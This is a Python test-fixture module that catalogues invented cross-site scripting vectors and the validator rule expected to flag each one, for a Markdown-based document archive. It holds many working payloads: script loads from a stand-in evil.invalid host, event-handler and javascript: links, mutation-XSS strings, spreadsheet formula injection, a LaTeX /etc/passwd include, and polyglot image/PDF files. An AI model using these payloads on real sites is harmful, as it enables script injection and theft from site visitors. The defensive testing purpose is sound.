"""What an attacker would send: each vector with where it stands and what `check` says of it.

All of it is invented. `PWN` stands for a call that says which vector has run, `EVIL` for an address elsewhere.
A vector that the check says nothing of has the reason: it means nothing in a browser, cleaned or not.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Vector:
    """One attack. `where` is `body` or the path of a field; `told` is the rule that tells it, "" where none does."""

    name: str
    text: str
    told: str = ""
    why: str = ""
    where: str = "body"

    def armed(self, number: int) -> str:
        """Return its text with the calls and addresses that say its number."""
        return self.text.replace("PWN", f"pwn({number})").replace("EVIL", f"//evil.invalid/{number}")


_S, _H = "body-script", "body-html"
_TEXT = "it is text to a browser, too"
_TEMPLATE = "no text goes through a template engine, neither when it is printed nor in the browser"
_BLOCK = "in Markdown this is a code block; the check would rather tell too much"

_TAGS = (
    ("script", "<script>PWN</script>", _S),
    ("script-in-a-line", "甲<script>PWN</script>乙", _S),
    ("script-case", "<sCrIpT>PWN</ScRiPt>", _S),
    ("script-with-space", "<script\n\n>PWN</script\n>", _S),
    ("script-from-elsewhere", "<script src=EVIL></script>", _S),
    ("script-module", '<script type="module">PWN</script>', _S),
    ("script-never-closed", "甲 <script src=EVIL x", _S),
    ("script-in-script", "<scr<script>ipt>PWN</scr</script>ipt>", _S),
    ("script-in-a-list", "- 甲\n- <script>PWN</script>", _S),
    ("script-in-a-quote", "> <script>PWN</script>", _S),
    ("script-in-a-table", "| 甲 | 乙 |\n|---|---|\n| <script>PWN</script> | <img src=x onerror=PWN> |", _S),
    ("script-in-a-footnote", "甲[^1]\n\n[^1]: <script>PWN</script><img src=x onerror=PWN>", _S),
    ("script-in-a-heading", "## <img src=x onerror=PWN> 甲", _S),
    ("script-in-a-link", "[<img src=x onerror=PWN>](https://example.org/)", _S),
    ("script-in-emphasis", "**<img src=x onerror=PWN>**", _S),
    ("script-in-indented-code", "甲\n\n    <script>PWN</script>", _S, _BLOCK),
    ("image-handler", "<img src=x onerror=PWN>", _S),
    ("image-handler-slash", "<img/src=x/onerror=PWN>", _S),
    ("image-handler-quotes", "<img src='x'onerror='PWN'>", _S),
    ("image-handler-lines", "<img\nsrc=x\nonerror\n=\nPWN>", _S),
    ("image-quoted-bracket", '<img alt="<" src=x onerror=PWN>', _S),
    ("image-quoted-end", '<img alt=">" src=x onerror=PWN>', _S),
    ("image-never-closed", "<img src=x onerror=PWN\n\n甲 > 乙", _S),
    ("image-source-set", "<img srcset=EVIL>", _H),
    ("image-from-elsewhere", "<img src=EVIL>", _H),
    ("picture-handler", "<picture><source srcset=x><img onerror=PWN></picture>", _S),
    ("video-handler", "<video src=x onerror=PWN></video><audio src=x onerror=PWN></audio>", _S),
    ("video-poster", "<video poster=EVIL></video>", _H),
    ("details-handler", "<details open ontoggle=PWN><summary>甲</summary></details>", _S),
    ("focus-handler", "<input autofocus onfocus=PWN><a tabindex=1 onfocus=PWN>甲</a>", _S),
    ("mouse-handler", "<b onmouseover=PWN>甲</b>", _S),
    ("click-handler", "<div onclick=PWN>甲</div>", _S),
    ("body-handler", "<body onload=PWN onpageshow=PWN>", _S),
    ("marquee-handler", "<marquee onstart=PWN>甲</marquee>", _S),
    ("animation-handler", "<p style='animation: sa-in 1ms' onanimationend=PWN>甲</p>", _S),
    ("unknown-tag-handler", "<x onclick=PWN>甲</x>", _S),
    ("chinese-tag", "<甲 onclick=PWN>", "", _TEXT),
    ("full-width-tag", "＜script＞PWN＜/script＞", "", _TEXT),
    ("svg-load", "<svg onload=PWN></svg>", _S),
    ("svg-script", "<svg><script>PWN</script></svg>", _S),
    ("svg-animate", "<svg><animate onbegin=PWN attributeName=x dur=1s></svg>", _S),
    ("svg-link", "<svg><a xlink:href='javascript:PWN'><text y=20>甲</text></a></svg>", _S),
    ("svg-foreign", "<svg><foreignObject><img src=x onerror=PWN></foreignObject></svg>", _S),
    ("math-link", "<math href='javascript:PWN'>甲</math>", _S),
    ("math-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=PWN></style></mglyph></table></mtext></math>", _S),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=PWN>"></noscript>', _S),
    ("style-mutation", '<p id="</style><img src=x onerror=PWN>"><style>', _S),
    ("svg-style-mutation", '<svg></p><style><a id="</style><img src=x onerror=PWN>">', _S),
    ("textarea-mutation", "<textarea></textarea><img src=x onerror=PWN></textarea>", _S),
    ("title-mutation", "<title><img title='</title><img src=x onerror=PWN>'>", _S),
    ("comment-mutation", "<!--><img src=x onerror=PWN>-->", "body-comment"),
    ("comment-never-ended", "甲 <!-- <img src=x onerror=PWN>", "body-comment-open"),
    ("comment-ended-oddly", "<!-- --!><img src=x onerror=PWN> -->", "body-comment"),
    ("cdata", "<![CDATA[<script>PWN</script>]]>", _S),
    ("processing-instruction", "<?xml <script>PWN</script> ?><?php PWN ?>", _S),
    ("declaration", "<!DOCTYPE x [<!ENTITY y SYSTEM 'EVIL'>]>", _H),
    ("iframe", "<iframe src=javascript:PWN></iframe>", _S),
    ("iframe-document", '<iframe srcdoc="<script>PWN</script>"></iframe>', _S),
    ("iframe-never-closed", "<iframe src=EVIL", _S),
    ("object", "<object data=javascript:PWN></object>", _S),
    ("object-from-elsewhere", "<object data=EVIL></object><embed src=EVIL>", _S),
    ("meta-refresh", '<meta http-equiv="refresh" content="0; url=EVIL">', _S),
    ("base", "<base href=EVIL>\n\n[甲](x.md)", _S),
    ("style", "<style>@import 'EVIL'; * {color: red}</style>", _S),
    ("style-attribute", "<p style='background: url(EVIL)'>甲</p>", _H),
    ("link", "<link rel=stylesheet href=EVIL>", _S),
    ("template", "<template><script>PWN</script></template>", _S),
    ("shadow-template", "<div><template shadowrootmode=open><img src=x onerror=PWN></template></div>", _S),
    ("form", "<form action=javascript:PWN><button>甲</button></form>", _S),
    ("form-action", "<form><button formaction=javascript:PWN>甲</button></form>", _S),
    ("form-elsewhere", "<form action=EVIL><input name=密码></form>", _S),
    ("plaintext", "<plaintext>", _H),
    ("table-broken-open", "</td></tr></table></section></div><img src=x onerror=PWN>", _S),
    ("html-in-html", "<div>\n\n<div><img src=x onerror=PWN></div>\n\n</div>", _S),
    ("named-anchor", "<a id=__config name=location>甲</a>", _H),
    ("html-link", "<a href='javascript:PWN'>甲</a>", _S),
    ("html-link-entities", "<a href='&#106;ava&#x73;cript&colon;PWN'>甲</a>", _S),
    ("html-link-gaps", "<a href='java&Tab;script&#10;:PWN'>甲</a>", _S),
    ("html-link-control", "<a href='&#1;javascript:PWN'>甲</a>", _S),
)  # fmt: skip

_LINKS = (
    ("link-javascript", "[甲](javascript:PWN)", _S),
    ("link-case", "[甲](JaVaScRiPt:PWN)", _S),
    ("link-space", "[甲]( \t javascript:PWN)", _S),
    ("link-line", "[甲](java\nscript:PWN)", _S),
    ("link-tab", "[甲](java\tscript:PWN)", _S),
    ("link-entities", "[甲](&#x6A;avascript&colon;PWN)", _S),
    ("link-entity-zeros", f"[甲](&#{'0' * 300}106;avascript:PWN)", _S),
    ("link-entity-control", "[甲](&#1;javascript:PWN)", _S),
    ("link-escapes", "[甲](javascript\\:PWN)", _S),
    ("link-brackets", "[甲](<javascript:PWN>)", _S),
    ("link-vbscript", "[甲](vbscript:PWN)", _S),
    ("link-data", "[甲](data:text/html,<script>PWN</script>)", _S),
    ("link-data-base64", "[甲](data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+)", _S),
    ("link-title", '[甲](https://example.org/ "乙" onmouseover="PWN")', "", "a quotation mark in a title is escaped"),
    ("link-title-broken", "[甲](https://example.org/ '\"><img src=x onerror=PWN>')", _S),
    ("link-quote", '[甲](https://example.org/"onmouseover="PWN)', "", "a quotation mark in an address is escaped"),
    ("link-comment-js", "[甲](javascript://example.org/%0aPWN)", _S),
    ("link-autolink", "<javascript://example.org/%0aPWN>", _S),
    ("link-autolink-http", '<https://example.org/"onclick="PWN>', "", "a quotation mark in an address is escaped"),
    ("link-mail", '<a@b.example"onclick="PWN>', "", "a quotation mark in an address is escaped"),
    ("link-reference", "[甲][x]\n\n[x]: javascript:PWN", _S),
    ("link-reference-short", "[甲]\n\n[甲]: java&#115;cript:PWN '乙'", _S),
    ("link-reference-line", "[甲]\n\n[甲]:\n  javascript:PWN", _S),
    ("link-reference-quoted", "> [甲]\n>\n> [甲]:\n> javascript:PWN", _S),
    ("link-reference-title", "[甲][x]\n\n[x]: https://example.org/ '\"><svg onload=PWN>'", _S),
    ("link-of-an-image", "[![甲](x.png)](javascript:PWN)", _S),
    ("link-unclosed", "[甲](javascript:PWN", _S),
    ("image-javascript", "![甲](javascript:PWN)", _S),
    ("image-data", "![甲](data:image/svg+xml,%3Csvg%20onload='PWN'%20xmlns='http://www.w3.org/2000/svg'/%3E)", _S),
    ("image-alt", '![甲" onerror="PWN](x.png)', "", "a quotation mark in a description is escaped"),
    ("image-external", "![甲](https:EVIL)", "", "`build` tells it and makes it a link, which loads nothing"),
    ("image-title", "![甲](x.png '\"onerror=PWN x=\"')", "", "a quotation mark in a title is escaped"),
    ("link-relative-elsewhere", "[甲](EVIL) [乙](\\\\evil.invalid)", "", "a link may lead elsewhere; nothing runs on its account"),
    ("link-token", "[甲](link-0000000000000000-0) link-0000000000000000-0", "", "the token of a text is made from it"),
)  # fmt: skip

_MARKDOWN = (
    ("fence-attributes", "```{.x onclick=PWN id=y style='background:url(EVIL)'}\n甲\n```", "", "attributes of code are left out"),
    ("fence-language", '```x"onclick="PWN\n甲\n```', "body-code-open"),
    ("fence-content", "```html\n</code></pre><img src=x onerror=PWN>\n```", "", "code is escaped, and may be about HTML"),
    ("fence-never-closed", "```\n<img src=x onerror=PWN>", "body-code-open"),
    ("fence-of-another-kind", "```\n~~~\n<img src=x onerror=PWN>\n~~~", "body-code-open"),
    ("code-span", "`<img src=x onerror=PWN>`", "", "code is escaped, and may be about HTML"),
    ("code-span-uneven", "``<img src=x onerror=PWN>`", _S),
    ("code-span-escaped", "\\`<img src=x onerror=PWN>`", _S),
    ("attribute-list", "甲\n{: onclick=PWN #x .y }\n\n## 乙 {: onclick=PWN }", "", "attribute lists are not read"),
    ("footnote-id", '甲[^"onclick="PWN]\n\n[^"onclick="PWN]: 乙', "", "the name of a footnote is escaped"),
    ("footnote-hidden", '[^1]: 甲\n\n    <img src=x onerror=PWN>\n\n乙[^1]', _S),
    ("heading-id", '## 甲" onclick="PWN\n\n## __config\n\n## __config', "", "anchors are made of words"),
    ("heading-configuration", '## __config\n\n## {"base":"EVIL","features":[],"search":"EVIL"}', "", "anchors are made of words"),
    ("outline", "## 一<svg/onload=PWN>\n\n## 二", _S),
    ("table-align", "| 甲 |\n|:--:|\n| \" style=\"x:expression(PWN) |", "", _TEXT),
    ("abbreviation", '*[甲]: "><img src=x onerror=PWN>\n\n甲', _S),
    ("entity-tag", "&lt;script&gt;PWN&lt;/script&gt;", "", _TEXT),
    ("entity-twice", "&amp;lt;img src=x onerror=PWN&amp;gt;", "", _TEXT),
    ("entity-half", "&lt;img src=x onerror=PWN>", "", _TEXT),
    ("backslash-tag", "\\<img src=x onerror=PWN\\>", _S, "an escape that Markdown may undo is told all the same"),
    ("zero-width-tag", "<\u200bscript>PWN</script> <scr\u200bipt>PWN</script>", _S),
    ("zero-width-scheme", "[甲](java\u200bscript:PWN)", _S),
    ("line-break", "<br onclick=PWN> <br/onmouseover=PWN>", _S),
    ("emphasis-split", "<img src=x *onerror=PWN*>", _H),
    ("scar-in-tag", "<img src=x □ onerror=PWN **>", _S),
    ("scar-mark", "甲\ue000<img src=x onerror=PWN>\ue000", _S),
    ("scar-html", '<span class="sa-scar" onclick=PWN>原文已隐去</span>', _S),
    ("placeholder-of-markdown", "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03<img src=x onerror=PWN>", "control-character"),
    ("placeholder-spelled", "&#2;wzxhzdk:0&#3; &STX; wzxhzdk:0 klzzwxh:0000", "", "only the characters themselves mean anything"),
    ("placeholder-of-footnotes", "zz1337820767766393qq ///Footnotes Go Here///", "", "only the characters around it mean anything"),
    ("jinja-expression", "{{ config.site_name }} {{ 7*7 }} {{ ''.__class__ }}", "", _TEMPLATE),
    ("jinja-statement", "{% for x in [1] %}甲{% endfor %} {# 乙 #}", "", _TEMPLATE),
    ("client-template", "{{constructor.constructor('PWN')()}} ${PWN} #{PWN} <%= PWN %>", "", _TEMPLATE),
    ("slot-of-the-shell", "saslotcontentsaslot <h1>saslottitlesaslot</h1> </head> </body>", _H),
    ("marker-of-a-component", "<!-- archive:latest 5 --> <!-- archive:search -->", "body-comment"),
    ("marker-spelled", "&lt;!-- archive:latest 5 --&gt; `<!-- archive:latest 5 -->`", "", "no text meets the components"),
    ("json-end", "</script><script>PWN</script> ]]> <!--<script>", _S),
    ("search-box-place", '<nav class="md-header__inner"></nav><div data-sa-box data-sa-script=EVIL></div>', _H),
    ("script-hooks", '<div data-sa-page data-sa-box data-sa-home=EVIL><form data-sa-search></form></div>', _S),
    ("bidirectional", "\u202e<script>PWN</script>", "bidi-control"),
    ("null", "<scr\x00ipt>PWN</script>", "control-character"),
    ("line-separator", "<img src=x onerror=PWN\u2028>", "control-character"),
)  # fmt: skip

_FIELD = "value-script"
_PLAIN = "fields are plain text: they are escaped wherever they stand"
_IMAGE = "<img src=x onerror=PWN>"
_FIELDS = (
    ("title", _IMAGE, _FIELD),
    ("title", "甲</title><script>PWN</script>", _FIELD),
    ("title", '甲"><script>PWN</script>', _FIELD),
    ("title", "甲</h1></div></section><svg/onload=PWN>", _FIELD),
    ("title", "甲</script><script>PWN</script>", _FIELD),
    ("title", '甲]]><script xmlns="http://www.w3.org/1999/xhtml">PWN</script>', _FIELD),
    ("title", "甲' onmouseover='PWN' x='", "", _PLAIN),
    ("title", '甲" onmouseover="PWN" x="', "", _PLAIN),
    ("title", "甲&lt;img src=x onerror=PWN&gt;", "", _PLAIN),
    ("title", "甲<!-- archive:latest 5 -->saslotcontentsaslot", "", _PLAIN),
    ("title", "甲{{ 7*7 }}{% raw %}${PWN}", "", _TEMPLATE),
    ("title", "=HYPERLINK(\"https:EVIL\")", "", "the CSV puts an apostrophe before what a spreadsheet would calculate"),
    ("title", "\\u003cscript\\u003ePWN", "", _TEXT),
    ("title", "甲\u2028PWN//", "control-character"),
    ("title", "甲}\\end{verbatim}\\input{/etc/passwd}", "", _PLAIN),
    ("abstract", "甲。<script>PWN</script>" + _IMAGE, _FIELD),
    ("abstract", "甲。</script><script>PWN</script><!--", _FIELD),
    ("abstract", "甲。]]></summary><script xmlns='http://www.w3.org/1999/xhtml'>PWN</script>", _FIELD),
    ("abstract", "甲。[乙](javascript:PWN)，字段里没有链接。", "", _PLAIN),
    ("abstract", "=cmd|' /C calc'!A0 甲甲甲甲甲甲甲甲", "", "the CSV puts an apostrophe before what a spreadsheet would calculate"),
    ("authors", _IMAGE, _FIELD),
    ("authors", '"></script><script>PWN</script>', _FIELD),
    ("number", "<svg onload=PWN>", _FIELD),
    ("number", '甲发〔2024〕5号" onclick="PWN', "document-number-odd"),
    ("department", _IMAGE, "term-unknown"),
    ("topics", _IMAGE, "term-unknown"),
    ("genre", _IMAGE, "term-unknown"),
    ("period", "2024<script>PWN</script>", "period-form"),
    ("date", "2025-01-15<script>PWN</script>", "date-form"),
    ("status", "<script>PWN</script>", "value-choice"),
    ("figures.name", _IMAGE, _FIELD),
    ("figures.value", "1<script>PWN</script>", "number-form"),
    ("figures.unit", "<b oncut=a>", _FIELD),
    ("figures.change", _IMAGE, _FIELD),
    ("figures.target", "<svg/onload=PWN>", _FIELD),
    ("figures.quote", _IMAGE, _FIELD),
    ("figures.basis", _IMAGE, _FIELD),
    ("figures.parts.name", _IMAGE, _FIELD),
    ("plans.id", "x\" onclick=PWN", "value-pattern"),
    ("plans.id", "__config", "value-pattern"),
    ("plans.text", _IMAGE + "<a href=javascript:PWN>甲</a>", _FIELD),
    ("plans.figure", _IMAGE, _FIELD),
    ("source.title", _IMAGE, _FIELD),
    ("source.url", "javascript:PWN", "address-form"),
    ("source.url", "java\tscript:PWN", "address-form"),
    ("source.url", "https://example.org/\"onclick=\"PWN", "address-form"),
    ("source.url", "data:text/html,<script>PWN</script>", "address-form"),
    ("source.url", "https://example.org/'onclick='PWN", "address-form"),
    ("source.url", "https://example.org/?x=%22onclick=%22PWN", "", "what is encoded stays encoded"),
    ("source.piece", _IMAGE, _FIELD),
    ("source.note", _IMAGE, _FIELD),
    ("aliases", "summaries/2024/<script>PWN</script>/", "address-form"),
    ("aliases", "../../../x\"onclick=PWN", "address-form"),
    ("aliases", "javascript:PWN", "address-form"),
    ("template", "EVIL", "key-unknown"),
    ("<script>PWN</script>", "甲", "key-unknown"),
)  # fmt: skip


def _fields() -> Iterator[Vector]:
    for number, (where, text, *rest) in enumerate(_FIELDS):
        told, why = (*rest, "")[:2]
        yield Vector(f"{where}-{number}", text, told, why, where)


BODY = tuple(Vector(*row) for row in (*_TAGS, *_LINKS, *_MARKDOWN))
FIELDS = tuple(_fields())
VECTORS = (*BODY, *FIELDS)

TERMS: dict[str, list[dict[str, object]]] = {
    "departments": [
        {"id": "plant", "name": "试验厂", "note": "编造的"},
        {"id": "armed", "name": f"厂{_IMAGE}", "aliases": ["<svg/onload=PWN>", '"onx="PWN'], "parent": "plant",
         "former": [{"name": "</title><script>PWN</script>", "to": 2000}], "note": f"甲{_IMAGE}</script>"},
    ],
    "topics": [{"id": "whole", "name": "全文"}, {"id": "armed", "name": f"题{_IMAGE}", "note": _IMAGE}],
    "genres": [{"id": "annual", "name": "年度总结"}, {"id": "armed", "name": f"文{_IMAGE}", "aliases": ["</option><script>PWN</script>"]}],
}  # fmt: skip
"""The vocabularies of the hostile archive: a pull request can change these as well."""

MEETING_FIELDS: tuple[tuple[str, str, str], ...] = (
    ("标题", _IMAGE, _FIELD),
    ("标题", "</title><script>PWN</script>", _FIELD),
    ("日期", "2025-01-15<script>PWN</script>", "date-form"),
    ("开始", "13:30<script>PWN</script>", "time-form"),
    ("结束", _IMAGE, "time-form"),
    ("地点", _IMAGE, _FIELD),
    ("主持", '"></a><svg/onload=PWN>', _FIELD),
    ("参加", _IMAGE, _FIELD),
    ("述职分钟", "5<script>PWN</script>", "minutes-form"),
    ("提问", _IMAGE, _FIELD),
    ("分组.名称", '" onclick="PWN"><img src=x onerror=PWN>', _FIELD),
    ("分组.考核小组", _IMAGE, _FIELD),
    ("分组.主持", _IMAGE, _FIELD),
    ("分组.地点", "<svg/onload=PWN>", _FIELD),
    ("分组.述职人.姓名", _IMAGE, _FIELD),
    ("分组.述职人.职务", "<iframe srcdoc='<script>PWN</script>'>", _FIELD),
    ("分组.述职人.部门", _IMAGE, "term-unknown"),
    ("分组.述职人.总结", "javascript:PWN", "debriefing-summary"),
    ("分组.述职人.总结", _IMAGE, _FIELD),
    ("请假", _IMAGE, _FIELD),
    ("材料.交给", _IMAGE, _FIELD),
    ("材料.内容", _IMAGE, _FIELD),
    ("程序", _IMAGE, _FIELD),
    ("要求", "</script><script>PWN</script>", _FIELD),
    ("评分项", _IMAGE, _FIELD),
    ("互评档次", _IMAGE, _FIELD),
    ("来源.标题", _IMAGE, _FIELD),
    ("来源.网址", "javascript:PWN", "address-form"),
    ("说明", _IMAGE, _FIELD),
    ("说明", "x\\r\\nBEGIN:VALARM", ""),
    ("旧址", "javascript:PWN", "address-form"),
    ("旧址", '../../../x"onclick=PWN', "address-form"),
    ("template", "EVIL", "key-unknown"),
    ("<script>PWN</script>", "甲", "key-unknown"),
)
"""What an attacker would write into the file of a debriefing meeting: the path of a field, the text, and what tells it."""


def meeting(number: int, at: int) -> str:
    """Return the file of a meeting with one of the texts in its place, its calls with a number."""
    where, text, _ = MEETING_FIELDS[at]
    front: dict[str, object] = {
        "标题": "编造的会议", "日期": "2025-01-15", "开始": "13:30", "分组": [{"名称": "一组", "述职人": ["甲", "乙"]}],
    }  # fmt: skip
    armed = text.replace("PWN", f"pwn({number})").replace("EVIL", f"//evil.invalid/{number}")
    _put_meeting(front, where.split("."), armed)
    return json.dumps(front, ensure_ascii=False, indent=1)


def _put_meeting(front: dict[str, object], path: list[str], text: str) -> None:
    key, *rest = path
    if not rest:
        front[key] = (
            [text]
            if key in ("参加", "考核小组", "请假", "程序", "要求", "评分项", "互评档次", "内容", "旧址")
            else text
        )
        return
    row: dict[str, object] = {"名称": "甲"} if key == "分组" else {"姓名": "甲"} if key == "述职人" else {}
    if key == "来源":
        row = {"标题": "甲"}
    _put_meeting(row, rest, text)
    front[key] = row if key in ("来源", "材料") else [row]


QUERIES = (
    "<img src=x onerror=PWN>",
    '"></script><script>PWN</script>',
    "javascript:{{PWN}}${PWN}' onfocus='PWN' autofocus '",
)
"""What stands in the address of the search page; the number of a query comes after those of all vectors."""

_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)
_HTML = b"<!doctype html><html><body><script>pwn(9000)</script></body></html>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="pwn(9001)"><script>pwn(9001)</script></svg>'
_SERVED = "servers send it as what its name says, and browsers do not look for scripts in that"
ASSETS: tuple[tuple[str, bytes, str, str], ...] = (
    ("svg-as.png", _SVG, "asset-kind", ""),
    ("html-as.pdf", _HTML, "asset-kind", ""),
    ("html-as.jpg", _HTML, "asset-kind", ""),
    ("riff-no-webp.webp", b"RIFF\x00\x00\x00\x00WAVEfmt ", "asset-kind", ""),
    ("picture.svg", _SVG, "asset-kind", ""),
    ("page.html", _HTML, "asset-kind", ""),
    ("page.md.html", _HTML, "asset-kind", ""),
    ("code.js", b"pwn(9002)", "asset-kind", ""),
    ("pages.xml", _SVG, "asset-kind", ""),
    (".htaccess.png.php", b"<?php", "", "hidden files are neither read nor copied"),
    ("double.png.html", _PNG, "asset-kind", ""),
    ("png-and-html.png", _PNG + _HTML, "", _SERVED),
    ("png-only-by-name.png", _PNG[:8] + _HTML, "", _SERVED),
    ("gif-and-js.gif", b"GIF89a=1;pwn(9003);//" + b"\x00" * 16, "", f"{_SERVED}; no page of the archive loads scripts from it"),
    ("jpeg-and-html.jpg", b"\xff\xd8\xff\xfe\x00\x60" + _HTML, "", _SERVED),
    ("javascript.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n", "",
     "readers of PDF keep its scripts to themselves; papers with forms have them, and none can be told from harm"),
)  # fmt: skip
"""Files beside the texts: name, content, the rule that tells it, and why it may stand where none does."""


def manuscript(vector: Vector, number: int) -> str:
    """Return a summary with the vector in its place and everything else in order."""
    front: dict[str, object] = {
        "title": f"试验厂第{number}号总结", "period": "2024", "department": "试验厂", "genre": "年度总结", "topics": ["全文"],
    }  # fmt: skip
    text = vector.armed(number)
    body = f"这是编造的第 {number} 号。\n"
    if vector.where == "body":
        body = f"{body}\n{text}\n\n后面还有一段，pwn。\n"
    else:
        _put(front, vector.where.split("."), text)
    if vector.name.endswith(("0", "5")):  # so that the pages of these terms list something
        front |= {key: value for key, value in _ARMED.items() if key != vector.where}
    head = "".join(f"{_key(key)}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in front.items())
    return f"---\n{head}---\n\n{body}"


_ARMED = {"department": "armed", "genre": "armed", "topics": ["armed", "whole"]}
_ROWS: dict[str, dict[str, object]] = {
    "figures": {"name": "甲", "value": 1}, "plans": {"id": "a", "text": "甲"}, "source": {"title": "甲"},
    "parts": {"name": "甲", "value": 1},
}  # fmt: skip


def _key(key: str) -> str:
    return key if key.isalpha() else json.dumps(key)


def _put(front: dict[str, object], path: list[str], text: str) -> None:
    """Put a text at the path of a field, in the first row of each list on the way."""
    key, *rest = path
    if rest:
        row = dict(_ROWS[key])
        _put(row, rest, text)
        front[key] = row if key == "source" else [row]
    else:
        front[key] = [text] if key in ("authors", "topics", "aliases") else text


def vocabulary(name: str, number: int) -> str:
    """Return a vocabulary file as YAML, its calls with a number."""
    return json.dumps(TERMS[name], ensure_ascii=False, indent=1).replace("PWN", f"pwn({number})")
